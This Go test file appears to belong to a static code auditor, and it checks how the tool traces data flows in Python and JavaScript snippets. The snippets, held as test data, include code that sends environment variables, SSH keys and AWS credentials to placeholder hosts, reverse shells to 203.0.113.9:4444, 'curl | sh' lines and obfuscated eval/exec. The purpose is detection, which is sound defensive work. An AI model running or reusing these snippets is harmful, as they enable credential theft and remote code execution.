package fact

import (
	"fmt"
	"strings"
	"testing"

	"github.com/vadehq/vade/diag"
	"github.com/vadehq/vade/internal/audit/script"

	"github.com/vadehq/vade/internal/testenv"
)

func codeFacts(lang, src string) *Facts {
	f := &Facts{Package: &Package{Files: []*File{{Path: "a." + lang, Raw: []byte(src), Text: src, Size: int64(len(src))}}}}
	r := Region{Place: Place{0, diag.Span{End: len(src)}}, Text: src}
	r.Medium, r.Lang = Code, lang
	f.codeOf(&r, lang)
	return f
}

func flowsOf(f *Facts) string {
	var list []string
	for _, x := range f.Flows {
		list = append(list, fmt.Sprintf("%s>%s %s %s %s", effectName(x.From), effectName(x.To), x.What, x.Where, x.Part))
	}
	for _, x := range f.Commands {
		list = append(list, "$ "+x.Text)
	}
	return strings.Join(list, "\n")
}

func effectName(e Effect) string {
	return [...]string{"", "shell", "program", "eval", "load", "fetch", "send", "connect", "decode", "read", "write", "rmtree", "env", "allenv", "secret", "listen", "bind"}[e]
}

// TestFlows follows values through code. What is wanted stands in the facts, what is
// not wanted (behind a !) does not.
func TestFlows(t *testing.T) {
	for _, c := range []struct{ name, lang, src, want string }{
		{"all of the environment", "py", "import os, requests\nrequests.post('https://files.example/in', json=dict(os.environ))\n", "allenv>send  https://files.example/in body"},
		{"a key in a header", "py", "import os, requests\nk = os.environ['X_API_KEY']\nr = requests.post('https://api.x.example/v1', headers={'Authorization': f'Bearer {k}'}, json={'a': 1})\nprint(r.json())", "env>send X_API_KEY https://api.x.example/v1 header"},
		{"the environment of a program", "py", "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'A': '1'})\n", "!allenv"},
		{"names of their own", "py", "from os import environ as e\nimport urllib.request as u\ndef pack(x):\n    return {k: v for k, v in x.items() if 'KEY' in k}\ndata = pack(e)\nreq = u.Request('http://203.0.113.9/c', data=str(data).encode())\nu.urlopen(req)\n", "allenv>send  http://203.0.113.9/c address"},
		{"a secret file", "py", "import requests\nfrom pathlib import Path\np = Path.home() / '.ssh' / 'id_rsa'\nrequests.put('https://files.example', data=p.read_text())\n", "secret>send ~/.ssh/id_rsa https://files.example body"},
		{"secret files in a loop", "py", "import os, requests\nout = []\nfor f in ['~/.aws/credentials', '~/.netrc']:\n    with open(os.path.expanduser(f)) as fh:\n        out.append(fh.read())\nrequests.post('https://files.example', data='\\n'.join(out))\n", "secret>send ~/.aws/credentials https://files.example body"},
		{"a stream", "py", "import socket,os\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\ns.send(str(os.environ).encode())", "allenv>send  203.0.113.9:4444 body"},
		{"a shell on a stream", "py", "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')", "connect>bind"},
		{"commands from a stream", "py", "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nwhile True:\n    cmd = s.recv(1024).decode()\n    subprocess.Popen(cmd, shell=True)", "connect>shell"},
		{"commands from who connects", "py", "import socket, os\ns = socket.socket()\ns.bind(('', 99))\nconn, who = s.accept()\nos.popen(conn.recv(99).decode())", "connect>shell"},
		{"a service in the background", "py", "import os\nfd = os.open(os.devnull, os.O_RDWR)\nos.dup2(fd, 0)\nos.dup2(fd, 1)", "!bind"},
		{"decoded code", "py", "import base64\nexec(base64.b64decode('cHJpbnQoMSkgIyBhIHRlc3Q='))", "decode>eval base64"},
		{"decoded code by parts", "py", "g = __import__('base' + '64')\nf = getattr(g, 'b64' + 'decode')\nglobals()['__builtins__']\nrun = getattr(__builtins__, ''.join(['e', 'x', 'ec']))\nrun(f(DATA))", "decode>eval base64"},
		{"decoded command", "py", "import os, base64\nos.system(base64.b64decode('Y3VybCBodHRwczovL2ZpbGVzLmV4YW1wbGUgfCBzaA==').decode())", "$ curl https://files.example"},
		{"code that is brought to another machine", "py", "import base64, subprocess\nCODE = 'print(1)'\nenc = base64.b64encode(CODE.encode()).decode()\nsubprocess.run(['ssh', host, f'python3 -c \"import base64;exec(base64.b64decode({enc!r}))\"'])", "!$ "},
		{"xor in a loop", "py", "def d(b, k):\n    return bytes(x ^ k for x in b)\nexec(d([1,2,3,4], 7))", "decode>eval xor"},
		{"fetched code", "py", "import requests\nr = requests.get('https://files.example/a.py')\nif r.ok:\n    exec(r.text)", "fetch>eval https://files.example/a.py"},
		{"fetched and loaded", "py", "import pickle, urllib.request\nm = pickle.loads(urllib.request.urlopen('https://files.example/m').read())", "fetch>load https://files.example/m  pickle"},
		{"fetched, written and run", "py", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://files.example/t', '/tmp/tool')\nsubprocess.run(['/tmp/tool', '-v'])", "fetch>program https://files.example/t  file"},
		{"a model is no code", "py", "import torch\nmodel.eval()\nre.compile(x)\ncursor.execute(requests.get(u).text)", "!eval"},
		{"one value after another", "py", "x = open('/home/a/.ssh/id_rsa').read()\ncheck(x)\nx = 'a'\nimport requests\nrequests.post('https://files.example', data=x)", "!secret>send"},
		{"a command", "py", "import subprocess as sp\nsp.run('curl -s https://files.example/i | sh', shell=True)", "$ sh"},
		{"a digest", "py", "import hashlib, requests, os\nrequests.post('https://files.example', data=hashlib.sha256(os.environ['A_SECRET'].encode()).hexdigest())", "!env>send"},

		{"all of it", "js", "const https = require('https');\nconst req = https.request({hostname: 'files.example', method: 'POST', path: '/c'}, () => {});\nreq.write(JSON.stringify(process.env));\nreq.end();", "allenv>send  https://files.example/c body"},
		{"fetch", "js", "import { env as e } from 'process';\nawait fetch(`https://files.example/${x}`, { method: 'POST', body: JSON.stringify({ ...e }) })", "allenv>send  https://files.example/… body"},
		{"a key of one's own", "js", "const key = process.env.X_API_KEY;\nconst r = await fetch('https://api.x.example', { headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify(q) });", "env>send X_API_KEY https://api.x.example header"},
		{"a program's environment", "js", "const { spawn } = require('child_process');\nspawn('npm', ['test'], { env: { ...process.env, CI: '1' } });", "!allenv>"},
		{"fetched code, by callbacks", "js", "fetch('https://files.example/a.js').then(r => r.text()).then(t => eval(t));", "fetch>eval https://files.example/a.js"},
		{"fetched in pieces", "js", "const http = require('http');\nhttp.get('http://203.0.113.9/p', res => { let d = ''; res.on('data', c => { d += c }); res.on('end', () => { new Function(d)() }) });", "fetch>eval http://203.0.113.9/p"},
		{"decoded", "js", "const c = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\neval(c)", "decode>eval base64"},
		{"decoded by name", "js", "globalThis['ev' + 'al'](atob(s))", "decode>eval base64"},
		{"decoded by constructor", "js", "[]['constructor']['constructor'](atob('YWxlcnQoMSk='))()", "decode>eval base64"},
		{"a command", "js", "const { execSync: x } = require('node:child_process');\nx('curl -s https://files.example/i | bash');", "$ bash"},
		{"a stream", "js", "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) });", "connect>bind"},
		{"a secret file", "js", "import fs from 'fs/promises'; import path from 'path'; import os from 'os';\nconst k = await fs.readFile(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8');\nawait axios.post('https://files.example', { k });", "secret>send ~/.ssh/id_ed25519 https://files.example body"},
		{"a declaration without a body", "ts", "declare function send(a: string): void;\nsend(process.env.A);\nfetch('https://files.example', { method: 'POST', body: JSON.stringify(process.env) });", "allenv>send  https://files.example body"},
		{"a block that ends in a function", "ts", "fetch('https://files.example', { method: 'POST', body: JSON.stringify(process.env) });\nconst r = (async function send", "allenv>send  https://files.example body"},
		{"a call of a function cut off", "ts", "fetch('https://files.example', { method: 'POST', body: JSON.stringify(process.env) });\nfunction late(a: string): Promise<string>\nlate('x', late)", "allenv>send  https://files.example body"},
		{"overloads", "ts", "function send(a: string): void;\nfunction send(a: object): void;\nfunction send(a) { fetch('https://files.example', { method: 'POST', body: a }) }\nsend(JSON.stringify(process.env))", "allenv>send  https://files.example body"},
		{"overloads of a method", "ts", "class A {\nsend(a: string): void;\nsend(a: object): void;\nsend(a) { fetch('https://files.example', { method: 'POST', body: a }) }\ngo() { this.send(JSON.stringify(process.env)) }\n}", "allenv>send  https://files.example body"},
		{"a pattern is no code", "js", "const m = /a/.exec(await (await fetch(u)).text());", "!eval"},
	} {
		got := flowsOf(codeFacts(c.lang, c.src))
		want, not := strings.CutPrefix(c.want, "!")
		if strings.Contains(got, want) == not {
			t.Errorf("%s, %s: want %s, got:\n%s", c.lang, c.name, c.want, got)
		}
	}
}

// TestLongCode reads code that is made to be long: it has to come to an end soon, and
// say if it was not followed to the end.
func TestLongCode(t *testing.T) {
	testenv.SkipUnlessSlow(t)
	n := 128 << 10
	for _, c := range []struct{ lang, unit string }{
		{"py", "("}, {"py", "a=a+a\n"}, {"py", "x.y(x)."}, {"py", "f'{"}, {"py", "def f(a):\n return f(a)\n"}, {"py", "exec("}, {"py", "lambda x:"}, {"py", "requests.get(os.environ)\n"}, {"py", "1,"}, {"py", "'a'+"}, {"py", "[x for x in "},
		{"py", "if a:\n "}, {"py", "'"}, {"py", "x.append(x)\n"}, {"py", "exec('exec(')\n"}, {"py", "s='ab'*9999\n"}, {"py", "class A(B):"}, {"py", "a,b=b,a\n"}, {"py", "subprocess.run('curl x|sh',shell=True)\n"}, {"py", "open(a,'w').write(os.environ)\n"},
		{"js", "`${"}, {"js", "{"}, {"js", "a=>"}, {"js", "function f(){"}, {"js", "a?b:"}, {"js", "class A{b(){"}, {"js", "x.then(y=>"}, {"js", "/"}, {"js", "<"}, {"js", "a.b.c.d(e);"}, {"js", "eval(atob('YWJj'));"}, {"js", "const {a,b:{c}}=d;"}, {"js", "[["}, {"js", "new Function("},
		{"rb", "system '"}, {"php", "eval("}, {"lua", "--"}, {"scpt", "do shell script \""},
	} {
		src := strings.Repeat(c.unit, n/len(c.unit))
		f := codeFacts(c.lang, src)
		if len(f.Calls) > maxFacts || len(f.Flows) > maxFacts || len(f.Missed) > maxFacts {
			t.Errorf("%q: %d calls, %d flows", c.unit, len(f.Calls), len(f.Flows))
		}
	}
}

func FuzzScript(f *testing.F) {
	f.Add("import os\nx = [os.environ[k] for k in 'ab']\nx += f'{x}'\nexec(''.join(x)[::-1])", uint8(0))
	f.Add("f(async function", uint8(1))
	f.Add("declare function f(a: string): void;\nclass A { g(a): b; h() { this.g(f(f)) } }\nconst r = (function send", uint8(1))
	f.Add("const {a: b = 1} = require('x'); b.then(c => eval(c + atob(`${c}`)))", uint8(1))
	f.Add("system(\"a #{b}\"); `ls`", uint8(2))
	f.Fuzz(func(t *testing.T, src string, lang uint8) {
		names := [...]string{"py", "js", "rb", "php", "go", "scpt"}
		x := codeFacts(names[int(lang)%len(names)], src)
		for _, c := range x.Calls {
			if c.Span.Start < 0 || c.Span.End > len(src) || c.Span.Start > c.Span.End {
				t.Fatalf("%q: a call at %v", src, c.Span)
			}
		}
		for _, c := range x.Flows {
			if c.At.Span.End > len(src) || c.Source.Span.End > len(src) {
				t.Fatalf("%q: a flow at %v from %v", src, c.At.Span, c.Source.Span)
			}
		}
		_, _ = script.Tokens(src, script.Python)
	})
}
